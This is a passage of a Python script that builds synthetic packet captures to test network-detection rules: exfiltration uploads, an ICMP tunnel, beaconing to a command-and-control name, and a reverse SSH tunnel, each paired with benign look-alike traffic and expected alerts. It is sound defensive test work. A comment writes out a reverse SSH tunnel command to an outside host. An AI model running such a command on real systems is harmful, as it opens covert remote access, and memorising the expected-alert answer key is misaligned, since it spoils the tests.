    flow.send(False, gc.http_resp(flow.t, "200 OK", [("Content-Type", "text/html; charset=utf-8")], html),
              think=60 * MS)
    flow.close(by_client=True, think=4 * SEC)
    cap.quiet(flow.conv, "the personal data comes in (sent by the outside server): nothing leaves",
              look_alike_of=(1000001, 1000002))
    return cap


def _tls_bulk(cap, client, server, port, t, rtt, label, sni, up: int, down: int, bps: int, description,
              cert_size=3300) -> ShuntedFlow:
    """A TLS connection carrying ``up`` bytes out and ``down`` in; the broker shunts it after SHUNT_AFTER."""
    flow = tls_open(ShuntedFlow(cap, client, server, port, t=t, srv_rtt=rtt, gap=120, app="tls", server_name=sni,
                                description=description), label, sni, cert_size=cert_size)
    head = min(up, SHUNT_AFTER)
    tls_write(flow, True, head, think=300)
    flow.bulk(True, up - head, bps=bps)
    flow.bulk(False, down + 2 * 254, bps=bps, think=rtt)  # tickets and the response
    flow.close(by_client=True, think=5 * MS)
    return flow


def build_volume() -> PolicyCapture:
    """Volume rules over shunted elephant flows: 1000030, 1000031, 1000032."""
    cap = PolicyCapture("volume", "policy (volume): encrypted uploads to Alibaba Cloud OSS and a large upload to "
                                  "Google APIs, beside an allow-listed bulk upload, an internal backup and a Windows "
                                  "update download; elephant flows shunted by the packet broker")
    dns = Resolver(cap)
    t0 = T_POLICY + 30 * MIN
    oss = "dcn-archive-5b2e.oss-cn-hongkong.aliyuncs.com"

    # 1. three encrypted uploads, 4.1-4.7 MB each, to a foreign cloud within 25 minutes: 1000030 x3, 1000031
    uploads = []
    for i, (mins, size) in enumerate([(0, 4_404_019), (11, 3_932_160), (24, 4_718_592)]):
        t = dns.lookup(H["wms3"], oss, "A", t0 + mins * MIN)
        flow = _tls_bulk(cap, H["wms3"], H["oss_hk"], 443, t + 300, RTT["oss_hk"], f"policy:volume:oss{i}", oss,
                         size, 380, 24_000_000, f"TLS upload {i + 1}/3 of {size / 1e6:.1f} MB to Alibaba Cloud OSS "
                                                f"(Hong Kong), shunted after {SHUNT_AFTER} bytes", cert_size=4100)
        uploads.append(flow.conv)
        cap.expect(1000030, [flow.conv], f"{size:,} bytes out, out/in far above 10, TLS, to a foreign cloud")
    cap.expect(1000031, uploads, "3 encrypted uploads, 13.05 MB (>= 10 MB) in 24 minutes, from wms-03 to one "
                                 "foreign-cloud organisation")

    # 2. 2 x ~60 MB uploads to Google APIs (Drive) within 20 minutes: 1000032 only (category cloud)
    drive = []
    for i, (mins, size) in enumerate([(3, 67_108_864), (19, 60_817_408)]):
        t = dns.lookup(H["ops_pc"], "www.googleapis.com", "A", t0 + mins * MIN + 20 * SEC)
        flow = _tls_bulk(cap, H["ops_pc"], H["gapis"], 443, t + 200, RTT["gapis"], f"policy:volume:drive{i}",
                         "www.googleapis.com", size, 1_800, 90_000_000,
                         f"Google Drive upload {i + 1}/2 of {size / 2**20:.0f} MiB (TLS, www.googleapis.com), "
                         "shunted", cert_size=3900)
        drive.append(flow.conv)
    cap.expect(1000032, drive, "128 MB (>= 100 MB, out/in >= 5) from ops-pc-25 to googleapis.com in one hour; "
                               "Google is a known cloud, so 1000030/1000031 do not apply")

    # 3. look-alike: 110 MiB to the allow-listed partner over TLS
    flow = _tls_bulk(cap, H["wms2"], H["partner"], 443, t0 + 6 * MIN, RTT["partner"], "policy:volume:partner",
                     "api.partner.example", 115_343_360, 2_100, 60_000_000,
                     "110 MiB TLS upload to api.partner.example (allow-listed), shunted")
    cap.quiet(flow.conv, "bulk encrypted upload, but to an allow-listed destination",
              look_alike_of=(1000030, 1000031, 1000032))

    # 4. look-alike: internal rsync backup of 180 MiB
    flow = ShuntedFlow(cap, H["wms1"], H["backup"], 873, t=t0 + 8 * MIN, srv_rtt=LAN_RTT, gap=14, app="rsync",
                       description="rsync push of 180 MiB to backup-01 (internal), shunted")
    flow.connect()
    greet = b"@RSYNCD: 31.0 sha512 sha256 sha1 md5 md4\n"
    flow.send(False, greet, think=900)
    flow.send(True, greet, think=150)
    flow.send(True, b"wms-db-dumps\n", think=40)
    flow.send(False, b"@RSYNCD: OK\n", think=1200)
    flow.send(True, b"--server\x00-logDtpre.iLsfxCIvu\x00.\x00wms-db-dumps/\x00\x00", think=200)
    flow.send(False, det_bytes("policy:volume:rsync:seed", 5), think=800)
    flow.send(True, det_bytes("policy:volume:rsync:flist", 1310), think=300)
    flow.send(False, det_bytes("policy:volume:rsync:sums", 96), think=2 * MS)
    flow.send(True, det_bytes("policy:volume:rsync:data", SHUNT_AFTER), think=400)
    flow.bulk(True, 188_743_680 - SHUNT_AFTER, bps=900_000_000)
    flow.bulk(False, 61, bps=900_000_000, think=3 * MS)
    flow.close(by_client=True, think=1 * MS)
    cap.quiet(flow.conv, "180 MiB, but internal (wms-01 -> backup-01)", look_alike_of=(1000032,))

    # 5. look-alike: a 210 MiB cumulative update from Windows Update (inbound heavy)
    t = dns.lookup(H["ops_pc"], "download.windowsupdate.com", "A", t0 + 14 * MIN)
    flow = ShuntedFlow(cap, H["ops_pc"], H["winupd"], 80, t=t + 200, srv_rtt=RTT["winupd"], gap=100, app="http",
                       description="Windows Update: GET of a 210 MiB .msu over HTTP (inbound), shunted")
    flow.connect()
    path = "/d/msdownload/update/software/secu/2025/11/windows10.0-kb5068781-x64_5d1b0e2f4c.msu"
    flow.send(True, gc.http_req("GET", path, "download.windowsupdate.com",
                                [("Connection", "Keep-Alive"), ("Accept", "*/*"),
                                 ("User-Agent", "Microsoft BITS/7.8"), ("Range", "bytes=0-")]), think=150)
    size = 220_200_960
    head = g.http_response("200 OK", [("Content-Type", "application/octet-stream"), ("Accept-Ranges", "bytes"),
                                      ("Server", "ECAcc (frc/4CF2)"), ("Cache-Control", "public,max-age=172800")],
                           b"", g.http_date(flow.t)).replace(b"Content-Length: 0", f"Content-Length: {size}".encode())
    first = b"MSCF\x00\x00\x00\x00" + det_bytes("policy:volume:msu", SHUNT_AFTER - len(head) - 8)
    flow.send(False, head + first, think=25 * MS)
    flow.bulk(False, size - len(first), bps=200_000_000)
    flow.close(by_client=True, think=40 * MS)
    cap.quiet(flow.conv, "210 MiB come in from a software-update host; the PC sends a few hundred bytes",
              look_alike_of=(1000032,))
    return cap


def build_icmp() -> PolicyCapture:
    """ICMP tunnel (1000060) beside ordinary pings."""
    cap = PolicyCapture("icmp", "policy (icmp): an ICMP echo tunnel from wms-03 to an outside relay, beside "
                                "monitoring pings, Windows pings and internal pings")
    rng = Rng("policy:icmp")
    t0 = T_POLICY + 60 * MIN

    # 1. tunnel: echo requests with base64 payloads of varying size; the relay answers with its own data
    pings = []
    t = t0 + 5 * SEC
    for i in range(64):
        n_up = rng.randint(210, 880)
        n_down = rng.randint(36, 470)
        up = base64.b64encode(det_bytes(f"policy:icmp:up{i}", n_up))
        down = base64.b64encode(det_bytes(f"policy:icmp:down{i}", n_down))
        pings.append((t, up, RTT["icmp_relay"] + rng.randint(0, 9 * MS), down))
        t += rng.randint(800, 6500) * MS
    conv = icmp_echo(cap, H["wms3"], H["icmp_relay"], 0x4E21, pings,
                     "ICMP tunnel: 64 echo requests of 280-1176 bytes of base64 to 203.0.113.66; the replies "
                     "carry other data")
    cap.expect(1000060, [conv], "large (mean > 200 bytes), variable payloads and replies that do not mirror "
                                "the requests, to an outside host")

    # 2. look-alike: mon-01 pings 8.8.8.8 (ping -c 3 every 30 s, 56-byte payload) for 8 minutes
    pings = []
    for b in range(16):
        for k in range(3):
            ts = t0 + b * 30 * SEC + k * SEC + k * 41
            data = linux_ping_payload(ts)
            pings.append((ts, data, RTT["gdns"] + rng.randint(0, 900), data))
    conv = icmp_echo(cap, H["mon"], H["gdns"], 0x2F11, pings, "monitoring: ping -c 3 8.8.8.8 every 30 s "
                                                               "(56-byte payload, mirrored replies)")
    cap.quiet(conv, "48 echo requests of 56 bytes each, replies mirror them", look_alike_of=(1000060,))

    # 3. look-alike: a Windows PC pings 1.1.1.1 (ping -n 12, 32-byte payload)
    pings = []
    for k in range(12):
        ts = t0 + 95 * SEC + k * SEC + rng.randint(0, 3 * MS)
        pings.append((ts, WINDOWS_PING, RTT["cf_dns"] + rng.randint(0, 700), WINDOWS_PING))
    conv = icmp_echo(cap, H["ops_pc"], H["cf_dns"], 0x0001, pings,
                     "Windows ping -n 12 1.1.1.1 (32-byte payload)")
    cap.quiet(conv, "12 echo requests of 32 bytes, replies mirror them", look_alike_of=(1000060,))

    # 4. look-alike: large internal pings (MTU check to backup-01)
    pings = []
    for k in range(6):
        ts = t0 + 150 * SEC + k * 200 * MS
        data = linux_ping_payload(ts)[:16] + bytes((0x10 + j) & 0xFF for j in range(1472 - 16))
        pings.append((ts, data, LAN_RTT + 40, data))
    conv = icmp_echo(cap, H["mon"], H["backup"], 0x2F12, pings,
                     "MTU check: ping -M do -s 1472 -c 6 -i 0.2 backup-01 (internal)")
    cap.quiet(conv, "large payloads, but internal (rule 1000060 matches outbound only)", look_alike_of=(1000060,))
    return cap


def build_benign() -> PolicyCapture:
    """Nothing may fire: TLS browsing to CDN names with their DNS lookups, and an apt download."""
    cap = PolicyCapture("benign", "policy (benign): an hour of ordinary traffic that must raise no alert: TLS "
                                  "browsing to CDN names (one of them visited irregularly 12 times), the DNS "
                                  "lookups, an apt package download")
    dns = Resolver(cap)
    stub = ClientCache(dns, H["ops_pc"])
    rng = Rng("policy:benign")
    t0 = T_POLICY + 90 * MIN
    # visits: (minute offset, name); www.gstatic.com comes back at irregular times
    visits = [(0.0, "www.google.com"), (0.1, "www.gstatic.com"), (0.2, "fonts.googleapis.com"),
              (0.25, "fonts.gstatic.com"), (2.5, "cdnjs.cloudflare.com"), (2.6, "cdn.jsdelivr.net"),
              (3.4, "www.gstatic.com"), (7.9, "github.githubassets.com"), (8.0, "www.gstatic.com"),
              (11.2, "login.microsoftonline.com"), (11.3, "ajax.aspnetcdn.com"), (14.8, "www.gstatic.com"),
              (15.0, "d1x7f2a9k3lq0z.cloudfront.net"), (21.7, "www.gstatic.com"), (22.0, "www.ups.com"),
              (23.9, "www.gstatic.com"), (31.5, "www.gstatic.com"), (33.0, "www.google.com"),
              (33.1, "www.gstatic.com"), (41.6, "www.gstatic.com"), (47.3, "www.gstatic.com"),
              (47.5, "d1x7f2a9k3lq0z.cloudfront.net"), (52.2, "www.gstatic.com"), (58.8, "www.gstatic.com")]
    tickets: dict = {}
    for k, (mins, name) in enumerate(visits):
        t = t0 + int(mins * MIN) + rng.randint(0, 900) * MS
        t = stub.resolve(name, t)
        server = H[f"cdn:{name}"]
        resume = tickets.get(name)
        flow = tls_open(TcpFlow(cap, H["ops_pc"], server, 443, t=t + 200, srv_rtt=RTT["cdn"] + rng.randint(0, 8) * MS,
                                gap=110, app="tls", server_name=name,
                                description=f"browser: HTTPS to {name} (TLS 1.3" + (", resumed)" if resume else ")")),
                        f"policy:benign:tls{k}", name, cert_size=rng.randint(2600, 4200), resume=resume)
        tickets[name] = det_bytes(f"policy:benign:ticket{k}", 192)
        for j in range(rng.randint(1, 2)):
            tls_write(flow, True, rng.randint(220, 900), think=300 if j == 0 else rng.randint(50, 2500) * MS)
            tls_write(flow, False, rng.randint(700, 2900), think=rng.randint(8, 90) * MS)
        tls_close(flow, think=rng.randint(2, 25) * SEC)
        cap.quiet(flow.conv, f"ordinary HTTPS to {name}: small uploads, more comes in than goes out",
                  look_alike_of=(1000070, 1000040) if name == "www.gstatic.com" else ())

    # apt on wms-02 fetches a package update from archive.ubuntu.com (HTTP, ~100 KB in)
    t = dns.lookup(H["wms2"], "archive.ubuntu.com", "A", t0 + 26 * MIN)
    flow = TcpFlow(cap, H["wms2"], H["ubuntu"], 80, t=t + 300, srv_rtt=RTT["ubuntu"], gap=60, app="http",
                   description="apt: GET of a .deb (29 KB) from archive.ubuntu.com")
    flow.connect()
    path = "/ubuntu/pool/main/libc/libcap2/libcap2_2.66-5ubuntu2.2_amd64.deb"
    flow.send(True, gc.http_req("GET", path, "archive.ubuntu.com",
                                [("User-Agent", "Debian APT-HTTP/1.3 (2.7.14build2) non-interactive"),
                                 ("Accept", "*/*")]), think=150)
    deb = b"!<arch>\ndebian-binary   1731945600  0     0     100644  4         `\n2.0\n" + \
        det_bytes("policy:benign:deb", 29_874 - 68)
    flow.send(False, g.http_response("200 OK", [("Server", "Apache/2.4.52 (Ubuntu)"),
                                                ("Content-Type", "application/vnd.debian.binary-package")],
                                     deb, g.http_date(flow.t)), think=20 * MS)
    flow.close(by_client=True, think=90 * MS)
    cap.quiet(flow.conv, "software download: 29 KB in, 150 bytes out, from a software-update host",
              look_alike_of=(1000030, 1000032))
    return cap


def build_beacon() -> PolicyCapture:
    """Beaconing (1000070) beside NTP polls every 64 s and an allow-listed API polled every 10 min."""
    cap = PolicyCapture("beacon", "policy (beacon): ops-pc-31 checks in with update.telemetry-sync.example over "
                                  "TLS every 60 s +/- 1 s for 2 hours, beside chronyd polling two NTP servers "
                                  "every 64 s and wms-02 polling api.ups.com every 10 minutes")
    dns = Resolver(cap)
    rng = Rng("policy:beacon")
    t0 = T_POLICY + 3 * HOUR

    # 1. the beacon: 125 short TLS connections (PSK resumption after the first), constant sizes
    stub = ClientCache(dns, H["pc31"])
    beacon = []
    t = t0 + 12 * SEC
    ticket = None
    for i in range(125):
        ta = stub.resolve("update.telemetry-sync.example", t)
        flow = tls_open(TcpFlow(cap, H["pc31"], H["c2"], 443, t=ta + 150, srv_rtt=RTT["c2"] + rng.randint(0, 6) * MS,
                                gap=110, app="tls", server_name="update.telemetry-sync.example",
                                description=f"beacon check-in {i + 1}/125 (TLS, GET with a metadata cookie)"),
                        f"policy:beacon:c2:{i}", "update.telemetry-sync.example", cert_size=2890, resume=ticket)
        ticket = det_bytes(f"policy:beacon:c2ticket{i}", 192)
        tls_write(flow, True, 292 + rng.randint(0, 4), think=300)
        tls_write(flow, False, 430 + rng.randint(0, 4), think=rng.randint(20, 45) * MS)
        tls_close(flow, think=3 * MS)
        beacon.append(flow.conv)
        t += 60 * SEC + rng.randint(-SEC, SEC)
    cap.expect(1000070, beacon, "125 connections 60 s +/- 1 s apart with near-constant sizes to one name that is "
                                "not allow-listed (RITA score ~0.98)")

    # 2. look-alike: chronyd on wms-01 polls two servers every 64 s (a fresh source port per request); it
    #    resolved their names when it started, so time.cloudflare.com gets its name (group public-ntp)
    dns.lookup(H["wms1"], "time-a.nist.gov", "A", t0)
    dns.lookup(H["wms1"], "time.cloudflare.com", "A", t0 + 30 * MS)
    ntp = {"nist": [], "ntp": []}
    for srv, ref, stratum, off in (("nist", b"NIST", 1, 7 * SEC), ("ntp", bytes([10, 21, 8, 4]), 3, 39 * SEC)):
        for k in range(int(2 * HOUR // (64 * SEC)) + 1):
            ts = t0 + off + k * 64 * SEC + rng.randint(0, 40 * MS)
            ntp[srv].append(ntp_poll(cap, H["wms1"], H[srv], ts, RTT[srv] + rng.randint(0, 3 * MS), stratum, ref,
                                     f"chronyd poll {k + 1} of {H[srv].name} (every 64 s)"))
    cap.quiet(ntp["nist"], "NTP every 64 s: a perfect beacon by timing and size, but rule 1000070 leaves out "
                           "service ntp (time-a.nist.gov has no destination group)", look_alike_of=(1000070,))
    cap.quiet(ntp["ntp"], "NTP every 64 s to time.cloudflare.com (service ntp, category time)",
              look_alike_of=(1000070,))

    # 3. look-alike: wms-02 polls the UPS tracking API every 10 minutes (allow-listed)
    ups_stub = ClientCache(dns, H["wms2"])
    ticket = None
    for i in range(13):
        ts = t0 + 25 * SEC + i * 10 * MIN + rng.randint(-2 * SEC, 2 * SEC)
        ta = ups_stub.resolve("api.ups.com", ts)
        flow = tls_open(TcpFlow(cap, H["wms2"], H["ups_api"], 443, t=ta + 200, srv_rtt=RTT["ups"], gap=110,
                                app="tls", server_name="api.ups.com",
                                description=f"UPS tracking poll {i + 1}/13 (every 10 minutes, TLS)"),
                        f"policy:beacon:ups:{i}", "api.ups.com", resume=ticket)
        ticket = det_bytes(f"policy:beacon:upsticket{i}", 192)
        tls_write(flow, True, 610 + rng.randint(0, 6), think=300)
        tls_write(flow, False, 880 + rng.randint(0, 40), think=rng.randint(90, 160) * MS)
        tls_close(flow)
        cap.quiet(flow.conv, "regular polling, but of an allow-listed carrier (ups.com)", look_alike_of=(1000070,))
    return cap


def build_long() -> PolicyCapture:
    """A 3-hour reverse SSH tunnel (1000080) beside long-lived connections the rule leaves out."""
    cap = PolicyCapture("long", "policy (long): a reverse SSH tunnel from wms-03 to an outside host held open "
                                "for 3 hours, beside Slack's websocket (90 min), an allow-listed partner event "
                                "stream (75 min) and an internal AMQPS connection (80 min)")
    dns = Resolver(cap)
    rng = Rng("policy:long")
    t0 = T_POLICY + 5 * HOUR + 30 * MIN

    # 1. ssh -N -R 2222:localhost:22 -o ServerAliveInterval=60 tunnel@192.0.2.222
    lab = "policy:long:ssh"
    flow = TcpFlow(cap, H["wms3"], H["ssh_relay"], 22, t=t0, srv_rtt=RTT["ssh_relay"], gap=110, app="ssh",
                   description="reverse SSH tunnel (ssh -N -R) to 192.0.2.222, keepalive every 60 s, 3 hours")
    flow.connect()
    flow.send(False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", think=2 * MS)
    flow.send(True, b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n", think=400)
    flow.send(True, ssh_kexinit(f"{lab}:c", server=False), think=100)
    flow.send(False, ssh_kexinit(f"{lab}:s", server=True), think=300)
    flow.send(True, ssh_packet(f"{lab}:ecdh_init", b"\x1e" + ssh_string(det_bytes(f"{lab}:qc", 32))), think=200)
    host_key = ssh_string(b"ssh-ed25519") + ssh_string(det_bytes(f"{lab}:hostkey", 32))
    sig = ssh_string(b"ssh-ed25519") + ssh_string(det_bytes(f"{lab}:sig", 64))
    reply = b"\x1f" + ssh_string(host_key) + ssh_string(det_bytes(f"{lab}:qs", 32)) + ssh_string(sig)
    flow.send(False, ssh_packet(f"{lab}:ecdh_reply", reply) + ssh_packet(f"{lab}:nk_s", b"\x15"), think=3 * MS)
    flow.send(True, ssh_packet(f"{lab}:nk_c", b"\x15") + ssh_enc(f"{lab}:svcreq", 17), think=300)
    flow.send(False, ssh_enc(f"{lab}:extinfo", 180) + ssh_enc(f"{lab}:svcacc", 17), think=400)
    flow.send(True, ssh_enc(f"{lab}:auth_query", 380), think=200)
    flow.send(False, ssh_enc(f"{lab}:pk_ok", 360), think=800)
    flow.send(True, ssh_enc(f"{lab}:auth_sig", 470), think=900)
    flow.send(False, ssh_enc(f"{lab}:auth_ok", 1), think=4 * MS)
    flow.send(True, ssh_enc(f"{lab}:fwd", 40), think=300)              # tcpip-forward 2222
    flow.send(False, ssh_enc(f"{lab}:fwd_ok", 5), think=300)
    end = t0 + 3 * HOUR + 4 * MIN
    bursts = {37, 95, 96, 151}                                # the operator uses the tunnel
    k = 0
    while flow.t + 60 * SEC < end:
        k += 1
        flow.send(True, ssh_enc(f"{lab}:ka{k}", 27), think=60 * SEC)  # keepalive@openssh.com, want reply
        flow.send(False, ssh_enc(f"{lab}:kr{k}", 1), think=300)       # SSH_MSG_REQUEST_FAILURE
        if k in bursts:
            flow.send(False, ssh_enc(f"{lab}:open{k}", 60), think=rng.randint(5, 30) * SEC)  # forwarded-tcpip
            flow.send(True, ssh_enc(f"{lab}:conf{k}", 17), think=2 * MS)
            for j in range(rng.randint(4, 8)):
                flow.send(False, ssh_enc(f"{lab}:d{k}:{j}:in", rng.randint(40, 300)), think=rng.randint(400, 4000) * MS)
                flow.send(True, ssh_enc(f"{lab}:d{k}:{j}:out", rng.randint(60, 1300)), think=rng.randint(2, 40) * MS)
            flow.send(False, ssh_enc(f"{lab}:eof{k}", 5), think=rng.randint(1, 5) * SEC)
            flow.send(True, ssh_enc(f"{lab}:close{k}", 5), think=2 * MS)
    flow.send(True, ssh_enc(f"{lab}:disconnect", 40), think=20 * SEC)
    flow.close(by_client=True, think=5 * MS)
    cap.expect(1000080, [flow.conv], "one TCP connection of 3 hours to an outside host that is not allow-listed "
                                     "(no destination group)")

    # 2. look-alike: Slack desktop's websocket (messaging) for 90 minutes
    t = dns.lookup(H["ops_pc"], "wss-primary.slack.com", "A", t0 + 2 * MIN)
    flow = tls_open(TcpFlow(cap, H["ops_pc"], H["slack"], 443, t=t + 200, srv_rtt=RTT["slack"], gap=110, app="tls",
                            server_name="wss-primary.slack.com",
                            description="Slack desktop: websocket over TLS, ping every ~60 s, 90 minutes"),
                    "policy:long:slack", "wss-primary.slack.com", cert_size=4700)
    tls_write(flow, True, 1180, think=300)          # GET /?token=... Upgrade: websocket
    tls_write(flow, False, 620, think=40 * MS)      # 101 Switching Protocols + hello
    end = flow.t + 90 * MIN
    while flow.t + 70 * SEC < end:
        tls_write(flow, True, 31 + rng.randint(0, 8), think=rng.randint(52, 68) * SEC)     # ping
        tls_write(flow, False, 44 + rng.randint(0, 8), think=rng.randint(15, 40) * MS)    # pong
        if rng.randint(0, 3) == 0:
            tls_write(flow, False, rng.randint(180, 1400), think=rng.randint(2, 20) * SEC)  # a message
    tls_close(flow)
    cap.quiet(flow.conv, "90 minutes, but Slack is category messaging, which rule 1000080 leaves out",
              look_alike_of=(1000080,))

    # 3. look-alike: wms-01 keeps an event stream open to the allow-listed partner for 75 minutes
    t = dns.lookup(H["wms1"], "api.partner.example", "A", t0 + 4 * MIN)
    flow = tls_open(TcpFlow(cap, H["wms1"], H["partner"], 443, t=t + 250, srv_rtt=RTT["partner"], gap=110, app="tls",
                            server_name="api.partner.example",
                            description="partner API event stream (HTTP/2 over TLS), 75 minutes"),
                    "policy:long:partner", "api.partner.example")
    tls_write(flow, True, 410, think=300)
    tls_write(flow, False, 260, think=30 * MS)
    end = flow.t + 75 * MIN
    while flow.t + 3 * MIN < end:
        tls_write(flow, False, rng.randint(220, 900), think=rng.randint(60, 170) * SEC)   # an event
        if rng.randint(0, 2) == 0:
            tls_write(flow, True, 40, think=rng.randint(1, 3) * SEC)                     # WINDOW_UPDATE/PING
    tls_close(flow)
    cap.quiet(flow.conv, "75 minutes, but to an allow-listed destination", look_alike_of=(1000080,))

    # 4. look-alike: wms-02 <-> mq-01 AMQP over TLS, heartbeats every 60 s, 80 minutes (internal)
    flow = tls_open(TcpFlow(cap, H["wms2"], H["mq"], 5671, t=t0 + 6 * MIN, srv_rtt=LAN_RTT, gap=14, app="tls",
                            server_name="mq-01.dc-north.corp",
                            description="AMQP 0-9-1 over TLS to mq-01 (internal), heartbeats, 80 minutes"),
                    "policy:long:amqp", "mq-01.dc-north.corp", cert_size=1900)
    tls_write(flow, True, 330, think=300)
    tls_write(flow, False, 540, think=2 * MS)
    end = flow.t + 80 * MIN
    while flow.t + 70 * SEC < end:
        tls_write(flow, True, 25, think=60 * SEC + rng.randint(0, 300) * MS)     # heartbeat frame
        tls_write(flow, False, 25, think=rng.randint(1, 900) * MS)
        if rng.randint(0, 4) == 0:
            tls_write(flow, True, rng.randint(300, 1500), think=rng.randint(1, 30) * SEC)   # basic.publish
            tls_write(flow, False, 38, think=2 * MS)                                         # confirm
    tls_close(flow)
    cap.quiet(flow.conv, "80 minutes, but internal (wms-02 -> mq-01)", look_alike_of=(1000080,))
    return cap


SCENARIOS = {"data": build_data, "volume": build_volume, "icmp": build_icmp, "benign": build_benign,
             "beacon": build_beacon, "long": build_long}


def generate(out_dir: Path, only: list[str] | None = None) -> list[dict]:
    out_dir.mkdir(parents=True, exist_ok=True)
    return [SCENARIOS[s]().write(out_dir) for s in (only or SCENARIOS)]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", type=Path, default=Path(__file__).resolve().parent,
                    help="output directory (default: the captures/ directory)")
    ap.add_argument("--only", action="append", choices=sorted(SCENARIOS), help="build only these scenarios")
    args = ap.parse_args(argv)
    for m in generate(args.out, args.only):
        sids = sorted({a["signature_id"] for a in m["expected_alerts"]})
        print(f"{m['capture']}: {m['packet_count']} packets, {len(m['conversations'])} conversations; "
              f"expected alerts: {', '.join(map(str, sids)) or 'none'}; {len(m['benign_flows'])} benign flows")
    return 0


if __name__ == "__main__":
    sys.exit(main())
